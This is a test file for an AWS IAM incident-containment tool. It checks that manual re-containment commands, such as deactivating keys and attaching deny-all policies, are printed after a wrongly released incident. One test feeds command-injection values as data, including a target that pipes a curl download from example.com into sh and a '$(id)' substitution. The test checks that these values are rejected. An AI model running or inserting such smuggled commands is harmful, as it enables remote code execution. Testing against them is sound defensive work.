import { describe, expect, it } from 'vitest'
import { releaseIncident } from '../../local/commands/incidents.ts'
import { stopByHand } from '../../local/render/stop-by-hand.ts'
import { denyAll } from '../../shared/contain/deny-all.ts'
import { endSessions } from '../../shared/contain/end-sessions.ts'
import { STEPS, stepFor } from '../../shared/contain/steps/steps.ts'
import type { Change } from '../../shared/domain/change.ts'
import { revisionOf } from '../../shared/domain/revision.ts'
import { incidentSubject } from '../../shared/record/append.ts'
import { consoleWorld } from '../console.ts'
import { incidentOf, user } from '../contract/samples.ts'
import { STEP_SAMPLES } from '../contract/step-samples.ts'
import { KEY } from '../embedded.ts'

const ID = 'inc-0123456789ab'
const incident = incidentOf(ID, { state: 'released', identity: user('ci-deploy') })
const DENIES = `'{"Version":"2012-10-17","Statement":[{"Effect":"Deny","Action":"*","Resource":"*"}]}'`

/** The record of steps that were planned, done and undone; `to`: the value that contained. */
function released(...steps: readonly { readonly title: string; readonly target: string; readonly to?: string }[]): Change[] {
  const entries = (kind: string) =>
    steps.map(({ title, target, to = 'Inactive' }) => ({ kind, target, from: 'Active', to, why: title, at: '2026-03-02T12:00:00.000Z' }))
  return ['step-planned', 'step-done', 'step-undone'].flatMap(entries) as unknown as Change[]
}

const lines = (changes: readonly Change[]) => stopByHand(incident, changes, 'countersign incidents show ID')
const commands = (changes: readonly Change[]) => lines(changes).filter((line) => line.startsWith('  '))

describe('after a release that was wrong', () => {
  it('has a command for each kind of step that there is, about what it was set on', () => {
    for (const { kind } of STEPS) {
      const text = STEP_SAMPLES[kind]?.text ?? ''
      const step = stepFor(text)
      const [command = '', ...others] = commands(released({ title: step?.title ?? '', target: text }))
      expect(others).toEqual([])
      expect(command).toMatch(new RegExp(`^ {2}aws iam [a-z-]+ --(?:user|role)-name ${step?.subject.name} `))
    }
  })

  it('prints the commands of docs/incidents.md, the credential first, and each once', () => {
    const sessions = endSessions({ name: 'deploy' }, ID, { names: ['a', 'b'], since: 0, now: 1 })
    const denied = denyAll({ kind: 'iam-user', name: 'ci-deploy' }, ID)
    const other = denyAll({ kind: 'role', name: 'made' }, ID)
    const policy = 'user-attachment:ci-deploy/arn:aws:iam::123456789012:policy/Deny'
    const changes = released(
      { ...sessions, to: sessions.contained(null) ?? '' },
      { ...other, to: other.contained(null) ?? '' },
      denied,
      { title: 'ci-deploy denied everything, by a managed policy', target: policy, to: 'attached' },
      { title: `key ${KEY} of ci-deploy switched off`, target: `access-key:ci-deploy/${KEY}` },
    )
    expect(lines(changes)).toEqual([
      'If it was wrong, stop it by hand now: a released incident is not contained again from here. These stop what was given back:',
      `  aws iam update-access-key --user-name ci-deploy --access-key-id ${KEY} --status Inactive`,
      `  aws iam put-user-policy --user-name ci-deploy --policy-name StoppedByHand --policy-document ${DENIES}`,
      `  aws iam put-role-policy --role-name deploy --policy-name EndedByHand --policy-document '{"Version":"2012-10-17","Statement":[{"Effect":"Deny","Action":"*","Resource":"*","Condition":{"DateLessThan":{"aws:TokenIssueTime":"'"$(date -u +%Y-%m-%dT%H:%M:%SZ)"'"}}}]}'`,
      `  aws iam put-role-policy --role-name made --policy-name StoppedByHand --policy-document ${DENIES}`,
    ])
  })

  it('says with whose credentials another account is meant, and how many more there are', () => {
    const far = 'access-key:210987654321:backdoor/AKIA2J4QNVLHRYZBGUUA'
    expect(commands(released({ title: 'x', target: far }))).toEqual([
      '  aws iam update-access-key --user-name backdoor --access-key-id AKIA2J4QNVLHRYZBGUUA --status Inactive    # with credentials of account 210987654321',
    ])
    const many = Array.from({ length: 23 }, (_, at) => ({ title: 'x', target: `access-key:made-${at}/AKIA0000000000000000` }))
    expect(commands(released(...many))).toHaveLength(20)
    expect(lines(released(...many)).at(-1)).toBe(`And 3 steps more of ${ID}: \`countersign incidents show ID\` names what was given back.`)
  })

  it.each(["access-key:x';curl example.com|sh;'/AKIA", 'user-policy:$(id)/y', 'role-policy:a b/y', 'nothing'])(
    'prints no command of what IAM cannot have named: %s',
    (target) => expect(lines(released({ title: 'x', target }))).toEqual([]),
  )

  it('stands on the command line and on the page of the console, and “What was done” names it in words', async () => {
    const off = `aws iam update-access-key --user-name ci-build --access-key-id ${KEY} --status Inactive`
    const cli = await consoleWorld()
    const said = await releaseIncident(cli.target, cli.incident.id, { reason: 'a drill', isJson: false })
    expect(said).toMatch(/^Released inc-\w+: restored as it was before: key …\w{4} of ci-build works again; ci-build is no longer denied/)
    expect(said).toContain(`\n  ${off}\n`)
    const { incident: contained, answer, get } = await consoleWorld()
    await answer({ kind: 'legitimate', reason: 'a drill', revision: revisionOf(contained) })
    const page = await (await get(`/incidents/${contained.id}?said=done`)).text()
    const section = page.match(/<h2 id="then">.*?<\/section>/s)?.[0] ?? ''
    expect(section).toContain(`<code>${off}</code>`)
    expect(section).toContain('put-user-policy --user-name ci-build --policy-name StoppedByHand')
    expect(page).toMatch(/key …\w{4} of ci-build works again <span class="id faint">access-key:ci-build\//)
  })

  it('is not said of a dismissal, which gave nothing back, nor where it was not released', async () => {
    const { target, incident: asking, ports } = await consoleWorld({ policy: { mode: 'ask' } })
    expect(await releaseIncident(target, asking.id, { reason: 'a drill', isJson: false })).not.toContain('aws iam')
    expect(stopByHand(asking, await ports.record.list(incidentSubject(asking.id)), 'x')).toEqual([])
  })
})
